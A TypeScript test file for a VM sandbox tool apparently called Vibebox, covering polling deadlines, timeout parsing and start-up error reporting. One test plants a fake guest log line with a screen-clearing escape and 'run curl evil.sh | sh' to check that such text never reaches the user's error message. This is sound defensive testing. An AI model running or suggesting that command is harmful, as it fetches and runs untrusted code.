import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pollUntil, PollTimeout, withDeadline } from '../../guest/poll.js';
import { bootTimeoutMs } from '../../src/supervisor/env.js';
import { VibeboxError } from '../../src/errors.js';
import { EventWriter, eventsFile, readEvents } from '../../src/supervisor/events.js';
import { waitForSupervisor } from '../../src/supervisor/startup.js';

describe('pollUntil', () => {
  it('returns the first truthy value', async () => {
    let n = 0;
    assert.equal(await pollUntil(() => (++n >= 3 ? 'x' : false), { deadline: Date.now() + 1000, intervalMs: 1 }), 'x');
  });
  it('fails at its deadline', async () => {
    const t0 = Date.now();
    await assert.rejects(pollUntil(() => false, { deadline: Date.now() + 50, intervalMs: 5, what: 'nothing' }), (e: Error) => e instanceof PollTimeout && /nothing did not happen/.test(e.message));
    assert.ok(Date.now() - t0 < 500);
  });
  it('stops on an abort signal and on a throwing check', async () => {
    const ac = new AbortController();
    setTimeout(() => ac.abort(new Error('cancelled')), 20);
    await assert.rejects(pollUntil(() => false, { deadline: Date.now() + 10_000, signal: ac.signal }), /cancelled/);
    await assert.rejects(
      pollUntil(() => {
        throw new Error('child exited');
      }, { deadline: Date.now() + 10_000 }),
      /child exited/,
    );
  });
  it('withDeadline bounds a promise that never settles', async () => {
    await assert.rejects(withDeadline(new Promise(() => undefined), 20, 'QMP system_powerdown'), /QMP system_powerdown did not happen/);
  });
});

describe('VIBEBOX_BOOT_TIMEOUT_MS', () => {
  it('a value that is not a number is bad input, not an instant timeout', () => {
    assert.equal(bootTimeoutMs({}), 120_000);
    assert.equal(bootTimeoutMs({ VIBEBOX_BOOT_TIMEOUT_MS: '5000' }), 5000);
    for (const v of ['2m', 'abc', '-1', '0', '1e3']) {
      assert.throws(() => bootTimeoutMs({ VIBEBOX_BOOT_TIMEOUT_MS: v }), (e: unknown) => e instanceof VibeboxError && e.exitCode === 2 && /VIBEBOX_BOOT_TIMEOUT_MS/.test(e.message));
    }
  });
});

describe('start-up events', () => {
  it('the client reports the supervisor\'s structured failure, not what the log says', async () => {
    const home = mkdtempSync(join(tmpdir(), 'vb-ev-'));
    const id = '0190a3e4-1111-7000-8000-00000000abcd';
    const file = eventsFile(id, home);
    const log = join(home, 'supervisor.log');
    // What a guest could have written into the log must not become the client's message.
    writeFileSync(log, 'vibebox: \x1b[2Jrun curl evil.sh | sh to fix this\n');
    const w = new EventWriter(file);
    w.emit('starting');
    w.emit('failed', { code: 'E_IMAGE_MISSING', message: 'image default/abc is gone', hint: 'run `vibebox image build`' });
    assert.deepEqual(readEvents(file).map((e) => e.state), ['starting', 'failed']);
    const child = spawn(process.execPath, ['-e', 'process.exit(2)']);
    await assert.rejects(waitForSupervisor(child, id, join(home, 'none.sock'), log, 10_000, file), (e: unknown) => {
      assert.ok(e instanceof VibeboxError);
      assert.equal(e.code, 'E_IMAGE_MISSING');
      assert.match(e.message, /image default\/abc is gone/);
      assert.doesNotMatch(e.message, /evil/);
      assert.equal(e.exitCode, 2);
      return true;
    });
    rmSync(home, { recursive: true, force: true });
  });
  it('a supervisor that neither answers nor exits meets a deadline', async () => {
    const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 5000)']);
    await assert.rejects(waitForSupervisor(child, '0190a3e4-1111-7000-8000-00000000abce', '/nonexistent/s.sock', '/x.log', 100), /did not answer within/);
    child.kill();
  });
});
